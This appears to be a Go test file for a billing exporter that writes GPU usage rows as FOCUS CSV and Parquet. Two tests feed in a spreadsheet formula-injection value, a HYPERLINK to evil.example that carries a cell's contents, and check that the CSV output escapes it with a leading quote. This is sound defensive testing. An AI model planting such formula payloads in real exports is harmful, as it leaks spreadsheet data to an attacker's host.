package focus

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/slicemeter/slicemeter/attribution/report"
)

// awkward are texts that need a CSV quote or a JSON escape, or look as if they did.
var awkward = []string{"", "plain", "a,b", `say "hi"`, "two\nlines", "cr\rhere", " lead", "\u00a0nbsp", `\.`, `\..`,
	"<b>&</b>", `back\slash`, "tab\there", "ünïcödé", "\u2028sep", "bad\xffutf8", "="}

// TestCSVLineIsEncodingCSV: a row's CSV line is what encoding/csv writes of its cells.
func TestCSVLineIsEncodingCSV(t *testing.T) {
	p := PeriodOf(time.Date(2026, 2, 3, 0, 0, 0, 0, time.UTC), time.UTC)
	for _, s := range awkward {
		for _, v := range []float64{0, 1, 1. / 7, 1e-9, 123456789.125, math.NaN(), math.Inf(-1)} {
			eff, cold := v, time.Duration(v*1e9)
			r := Usage(report.AllocationRow{Tenant: s, AllocationID: s, Tier: s, Node: s, Instance: s, Kind: "mig", Model: s, Profile: s,
				Fraction: v, Allocated: time.Hour, ListCost: v, Cost: v, Efficiency: &eff, ColdStart: &cold, Currency: s,
				WindowStart: p.Start, WindowEnd: p.Start.Add(time.Hour)}, p, IssuerNamed(s))
			r.ChargeClass, r.RegionId = &s, &s
			var want bytes.Buffer
			w := csv.NewWriter(&want)
			if err := w.Write(r.cells(DefaultVersion)); err != nil {
				t.Fatal(err)
			}
			w.Flush()
			var line csvLine
			r.emit(&line, DefaultVersion)
			if got := string(line.b) + "\n"; got != want.String() {
				t.Errorf("text %q, number %v:\n got %q\nwant %q", s, v, got, want.String())
			}
		}
	}
}

// TestUsageTexts: the texts Usage builds in one buffer are what fmt, encoding/json and
// time.Format would make of the line item.
func TestUsageTexts(t *testing.T) {
	p := PeriodOf(time.Date(2026, 2, 3, 0, 0, 0, 0, time.UTC), time.FixedZone("x", 5*3600+1800))
	for _, s := range awkward {
		for _, f := range []float64{0, 1, 1. / 7, 3. / 7, 1e-7, 2.5e-6, 1e22, 0.125} {
			for _, profile := range []string{"", s} {
				a := report.AllocationRow{Tenant: "t" + s, AllocationID: "a" + s, Tier: "p" + s, Node: "n" + s, Instance: "i" + s,
					Model: "m" + s, Profile: profile, Fraction: f, Allocated: time.Hour, WindowStart: p.Start, WindowEnd: p.Start.Add(time.Hour)}
				r := Usage(a, p, DefaultIssuer)
				sku := a.Model
				if a.Profile != "" {
					sku += "/" + a.Profile
				}
				details, _ := json.Marshal(struct {
					GpuCount  int     `json:"GpuCount"`
					Profile   string  `json:"x_Profile,omitempty"`
					Fraction  float64 `json:"x_BilledFraction"`
					GPUModel  string  `json:"x_GpuModel"`
					PriceTier string  `json:"x_Tier"`
				}{1, a.Profile, a.Fraction, a.Model, a.Tier})
				tags, _ := json.Marshal(map[string]string{"slicemeter/allocation": a.AllocationID, "slicemeter/tier": a.Tier, "slicemeter/node": a.Node})
				for _, c := range []struct{ name, got, want string }{
					{"ChargeDescription", r.ChargeDescription, fmt.Sprintf("%s of %s on %s, %.6f of the GPU, %s", a.AllocationID, sku, a.Node+"/"+a.Instance, a.Fraction, a.Tier)},
					{"SkuPriceDetails", *r.SkuPriceDetails, string(details)},
					{"Tags", *r.Tags, string(tags)},
					{"SkuId", *r.SkuId, sku},
					{"SkuPriceId", *r.SkuPriceId, sku + "/" + a.Tier},
					{"ResourceId", *r.ResourceId, a.Node + "/" + a.Instance},
					{"SubAccountId", *r.SubAccountId, a.Tenant + "/" + a.Tier},
					{"InvoiceId", r.InvoiceId, InvoiceID(a.Tenant, p)},
					{"BillingPeriodStart", r.BillingPeriodStart, p.Start.UTC().Format(DateTime)},
					{"BillingPeriodEnd", r.BillingPeriodEnd, p.End.UTC().Format(DateTime)},
					{"ChargePeriodEnd", r.ChargePeriodEnd, a.WindowEnd.UTC().Format(DateTime)},
				} {
					if c.got != c.want {
						t.Errorf("text %q, fraction %v, profile %q: %s %q, want %q", s, f, profile, c.name, c.got, c.want)
					}
				}
				var details2 map[string]any
				if err := json.Unmarshal([]byte(*r.SkuPriceDetails), &details2); err != nil {
					t.Errorf("SkuPriceDetails %q: %v", *r.SkuPriceDetails, err)
				}
			}
		}
	}
}

// TestChargePeriod: a row's charge period is the part of its window the allocation was
// billed, in whole seconds within the window.
func TestChargePeriod(t *testing.T) {
	h := time.Date(2026, 2, 3, 10, 0, 0, 0, time.UTC)
	at := func(m, s int, ns int) time.Time {
		return h.Add(time.Duration(m)*time.Minute + time.Duration(s)*time.Second + time.Duration(ns))
	}
	for _, tc := range []struct {
		name               string
		started            time.Time
		billed             time.Duration
		windowEnd          time.Time
		wantStart, wantEnd time.Time
	}{
		{"the whole hour", h.Add(-time.Hour), time.Hour, at(60, 0, 0), h, at(60, 0, 0)},
		{"started at 10:20", at(20, 0, 0), 40 * time.Minute, at(60, 0, 0), at(20, 0, 0), at(60, 0, 0)},
		{"ended at 10:30", h.Add(-time.Hour), 30 * time.Minute, at(60, 0, 0), h, at(30, 0, 0)},
		{"from 10:20 to 10:30", at(20, 0, 0), 10 * time.Minute, at(60, 0, 0), at(20, 0, 0), at(30, 0, 0)},
		{"seconds round outwards", at(20, 0, 5e8), 10 * time.Minute, at(60, 0, 0), at(20, 0, 0), at(30, 1, 0)},
		{"to the horizon", at(20, 0, 0), 25 * time.Minute, at(45, 0, 0), at(20, 0, 0), at(45, 0, 0)},
		{"not past a fractional horizon", at(20, 0, 0), 25*time.Minute + 5e8, at(45, 0, 5e8), at(20, 0, 0), at(45, 0, 5e8)},
		{"under a second", at(20, 0, 1e8), 5e8, at(60, 0, 0), at(20, 0, 0), at(20, 1, 0)},
		{"nothing billed", at(20, 0, 0), 0, at(60, 0, 0), h, at(60, 0, 0)},
		{"started unknown", time.Time{}, 30 * time.Minute, at(60, 0, 0), h, at(30, 0, 0)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := report.AllocationRow{Started: tc.started, Allocated: tc.billed, WindowStart: h, WindowEnd: tc.windowEnd}
			start, end := chargePeriod(a)
			if !start.Equal(tc.wantStart) || !end.Equal(tc.wantEnd) {
				t.Errorf("[%s, %s), want [%s, %s)", start.Format(time.RFC3339Nano), end.Format(time.RFC3339Nano),
					tc.wantStart.Format(time.RFC3339Nano), tc.wantEnd.Format(time.RFC3339Nano))
			}
			r := Usage(a, PeriodOf(h, time.UTC), DefaultIssuer)
			if r.ChargePeriodStart != start.Format(DateTime) || r.ChargePeriodEnd != end.Format(DateTime) {
				t.Errorf("row's charge period [%s, %s)", r.ChargePeriodStart, r.ChargePeriodEnd)
			}
		})
	}
}

// TestResourceType: a row's ResourceType says what was held, for every kind of instance.
func TestResourceType(t *testing.T) {
	for _, tc := range []struct{ kind, want string }{
		{"gpu", "GPU"}, {"mig", "MIG instance"}, {"vgpu", "vGPU"}, {"share", "GPU replica"},
	} {
		if got := *Usage(report.AllocationRow{Kind: tc.kind, Fraction: 1, Allocated: time.Hour}, Period{}, DefaultIssuer).ResourceType; got != tc.want {
			t.Errorf("kind %q: ResourceType %q, want %q", tc.kind, got, tc.want)
		}
	}
}

// TestCSVFormulaCells: a text cell a spreadsheet would evaluate (a scheduler's allocation id,
// and the description that quotes it) gets a leading ' in the CSV, as in the other CSV
// writers; numbers stay numbers and the Parquet file keeps the raw value.
func TestCSVFormulaCells(t *testing.T) {
	p := PeriodOf(time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), time.UTC)
	for _, id := range []string{`=HYPERLINK("http://evil.example/?x="&A2,"click")`, "+1", "-1", "@SUM(A1)", "\tx", "\rx"} {
		r := Usage(report.AllocationRow{Tenant: "acme", AllocationID: id, Tier: "std", Node: "n", Instance: "i", Kind: "mig",
			Model: "A100", Profile: "1g.10gb", Fraction: 1, Allocated: time.Hour, ListCost: -1, Cost: -1, Currency: "USD",
			WindowStart: p.Start, WindowEnd: p.Start.Add(time.Hour)}, p, DefaultIssuer)
		var csvOut, pqOut bytes.Buffer
		for _, out := range []struct {
			b *bytes.Buffer
			f Format
		}{{&csvOut, CSV}, {&pqOut, Parquet}} {
			w, err := NewWriter(out.b, out.f)
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Write(r); err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
		}
		rows, err := csv.NewReader(&csvOut).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %d rows, %v", id, len(rows), err)
		}
		col := map[string]string{}
		for i, name := range rows[0] {
			col[name] = rows[1][i]
		}
		if got := col["x_AllocationId"]; got != "'"+id {
			t.Errorf("x_AllocationId %q, want %q", got, "'"+id)
		}
		if got := col["ChargeDescription"]; got != "'"+r.ChargeDescription {
			t.Errorf("ChargeDescription %q, want %q", got, "'"+r.ChargeDescription)
		}
		if got := col["BilledCost"]; got != "-1.0" {
			t.Errorf("BilledCost %q, want -1.0 (a number is never prefixed)", got)
		}
		pq, err := ReadParquet(bytes.NewReader(pqOut.Bytes()), int64(pqOut.Len()))
		if err != nil || len(pq) != 1 {
			t.Fatalf("%q: Parquet %d rows, %v", id, len(pq), err)
		}
		if pq[0].XAllocationID == nil || *pq[0].XAllocationID != id || pq[0].ChargeDescription != r.ChargeDescription {
			t.Errorf("Parquet x_AllocationId %v, ChargeDescription %q: want the raw %q", pq[0].XAllocationID, pq[0].ChargeDescription, id)
		}
	}
}

// TestMonthFilesFormulaCells: the period close's focus-YYYY-MM.csv writes a formula
// allocation id with a leading ' in x_AllocationId and ChargeDescription; the .parquet beside
// it keeps the raw id.
func TestMonthFilesFormulaCells(t *testing.T) {
	const id = `=HYPERLINK("http://evil.example/?x="&A2,"click")`
	p := PeriodOf(time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC), time.UTC)
	e := Export{Report: func(_ context.Context, from, to time.Time) (report.Report, error) {
		rep := report.Report{WindowStart: from, WindowEnd: to, Currency: "USD"}
		if from.Equal(p.Start) { // one hour billed: one Usage row
			rep.Allocations = []report.AllocationRow{{Tenant: "acme", AllocationID: id, Tier: "pro", Node: "n", Instance: "gpu0", Kind: "gpu",
				Model: "A100-SXM4-40GB", Fraction: 1, Allocated: time.Hour, Cost: 1, ListCost: 1, Currency: "USD", WindowStart: from, WindowEnd: to}}
		}
		return rep, nil
	}}
	dir := t.TempDir()
	if _, err := (&MonthlyExport{Dir: dir, Issuer: "GPU Cloud Inc."}).Month(context.Background(), e, p, report.Report{}); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(filepath.Join(dir, "focus-"+p.Name+".csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, col := range []string{"x_AllocationId", "ChargeDescription"} {
		if got := rows[1][slices.Index(rows[0], col)]; !strings.HasPrefix(got, "'"+id) {
			t.Errorf("%s %q, want it to start with '%s", col, got, id)
		}
	}
	pq, err := ReadParquetFile(filepath.Join(dir, "focus-"+p.Name+".parquet"))
	if err != nil || len(pq) != 1 || pq[0].XAllocationID == nil || *pq[0].XAllocationID != id {
		t.Errorf("Parquet: %v, %d rows; want the raw id", err, len(pq))
	}
}
